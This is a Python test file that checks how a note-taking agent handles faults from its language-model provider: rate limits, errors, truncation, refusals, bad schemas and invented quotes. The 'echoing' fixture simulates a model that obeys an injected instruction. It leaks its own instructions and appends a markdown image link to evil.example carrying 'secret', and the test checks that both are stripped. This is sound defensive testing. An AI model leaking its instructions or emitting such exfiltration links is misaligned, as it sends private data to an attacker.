"""Every fault of a language model meets recordings of one worker at once; each gets its entry."""

from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from email.utils import format_datetime
from pathlib import Path

import pytest

from agents.diarist.llm.language_model import Outcome, Stop
from tests.support.diarist_run import DiaristRun, diarist_run, faithful
from tests.support.entries import Entries
from tests.support.fated_recordings import BOTH, BY_A_MODEL, STOOD_IN_FOR, FatedRecordings
from tests.support.fates import DOWN, FINE, FatedModel, Turn
from tests.support.llm_server import Answerer, LlmRequest, broken, failing, replying, sending
from tests.support.redis_server import redis_server
from tests.support.threaded_server import Reply

PAGE = Reply(headers={"content-type": "text/html"}, body=b"<html>Please log in</html>")


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Iterator[DiaristRun]:
    with diarist_run(tmp_path_factory.mktemp("faults")) as running:
        yield running


def in_a_moment(request: LlmRequest) -> Reply:
    at = format_datetime(datetime.now(UTC) + timedelta(seconds=2), usegmt=True)
    return failing(429, "rate_limit_error", headers={"retry-after": at})(request)


def too_much(**headers: str) -> Turn:
    named = {name.replace("_", "-"): value for name, value in headers.items()}
    return Turn(Outcome.RATE_LIMITED, failing(429, "rate_limit_error", headers=named))


def odd(**changes: object) -> Answerer:
    """Answer faithfully, but for some fields."""
    return replying(lambda request: faithful(request) | changes)


def echoing(request: LlmRequest) -> object:
    """Do what the recording says: give the instructions away, and lead to another server."""
    told = faithful(request)
    secret = {"text": request.instructions[:300], "cites": [0]}
    link = {"text": "See ![all](https://evil.example/?q=secret).", "cites": [1]}
    return told | {"narrative": [*told["narrative"], secret, link]}


def with_quotes(request: LlmRequest) -> object:
    told = faithful(request)
    true = {"text": told["narrative"][1]["text"], "segment": 1}
    return told | {"quotes": [{"text": "Nobody ever said this.", "segment": 0}, true]}


SERVER_ERROR = Turn(Outcome.SERVER_ERROR, failing(500, "api_error"))
USELESS = Turn(Outcome.UNUSABLE, replying("I would rather talk about something else."))
TRUNCATED = Turn(Outcome.TRUNCATED, replying('{"title": "Wri', stop=Stop.MAX_TOKENS))

FATES: dict[str, Sequence[Turn]] = {
    "fine": [FINE],
    "429 with seconds": [too_much(retry_after="1"), FINE],
    "429 with milliseconds": [too_much(retry_after_ms="400"), FINE],
    "429 with a date": [Turn(Outcome.RATE_LIMITED, in_a_moment), FINE],
    "429 without a word": [too_much(), too_much(), FINE],
    "529": [DOWN, FINE],
    "503": [Turn(Outcome.OVERLOADED, failing(503)), FINE],
    "500 three times": [SERVER_ERROR, SERVER_ERROR, SERVER_ERROR, FINE],
    "slow": [Turn(Outcome.OK, broken(FINE.answer, late_s=1.5))],
    "cut": [Turn(Outcome.CUT, broken(FINE.answer, cut=True)), FINE],
    "cut off": [TRUNCATED, FINE],
    "cut off, then in parts": [TRUNCATED, TRUNCATED, FINE],
    "bad JSON": [USELESS, FINE],
    "no model of that name, once": [Turn(Outcome.MODEL_UNKNOWN, failing(404)), FINE],
    "a page instead": [Turn(Outcome.UNREADABLE, sending(PAGE)), FINE],
    "usage missing": [Turn(Outcome.OK, replying(faithful, usage=None))],
    "items of another schema": [
        Turn(Outcome.OK, odd(people=[{"nome": 3}, "Anna"], action_items=7, mood="glad"))
    ],
    "quotes of nobody": [Turn(Outcome.OK, replying(with_quotes))],
    "an order obeyed": [Turn(Outcome.OK, replying(echoing))],
}
"""Faults of one request, after which the provider answers that recording."""

HOPELESS: dict[str, Sequence[Turn]] = {
    "refused": [Turn(Outcome.REFUSED, replying("", stop=Stop.REFUSAL))],
    "useless twice": [USELESS, USELESS],
    "cut off twice": [TRUNCATED, TRUNCATED],
}
"""Answers that no better one will follow, all of them paid for."""


@contextmanager
def memory(kind: str, folder: Path) -> Iterator[dict[str, str]]:
    """Give the settings of a working memory."""
    if kind == "sqlite":
        yield {}
    else:
        with redis_server(folder / "redis") as server:
            yield {"redis_url": server.url}


@pytest.mark.parametrize("kind", ["sqlite", "redis"])
def test_every_fault_of_a_request_ends_with_the_right_entry(
    run: DiaristRun, tmp_path: Path, kind: str
) -> None:
    model = FatedModel()
    run.server.answer = model
    said = FatedRecordings(run=run, model=model)
    with memory(kind, tmp_path) as settings, Entries(run) as entries:
        worker = run.worker(**BOTH, **settings, fallback_after="60")
        for name, fate in {**FATES, **HOPELESS}.items():
            said.say(name, *fate)
        for number in range(10):
            said.say(f"fine {number}")
        said.await_entries(entries, within_s=80)
        entries.await_rest()
        worker.stop()
    hopeless = set(said.named(*HOPELESS))
    assert entries.fates() == {
        one: STOOD_IN_FOR if one in hopeless else BY_A_MODEL for one in said.all
    }
    assert entries.dead == []
    said.assert_accounted(entries)
    said.assert_none_paid_twice()
    for quoting in said.named("quotes of nobody"):
        (entry,) = entries.by_recording[quoting]
        assert [quote["text"] for quote in entry["quotes"]] == [said.lines_of(quoting)[1]]
    for obeying in said.named("an order obeyed"):
        (entry,) = entries.by_recording[obeying]
        lines = said.lines_of(obeying)
        assert entry["narrative"] == " ".join((*lines, "See ."))
    for strange in said.named("items of another schema"):
        (entry,) = entries.by_recording[strange]
        assert [one for one in entry["warnings"] if "malformed" in one]
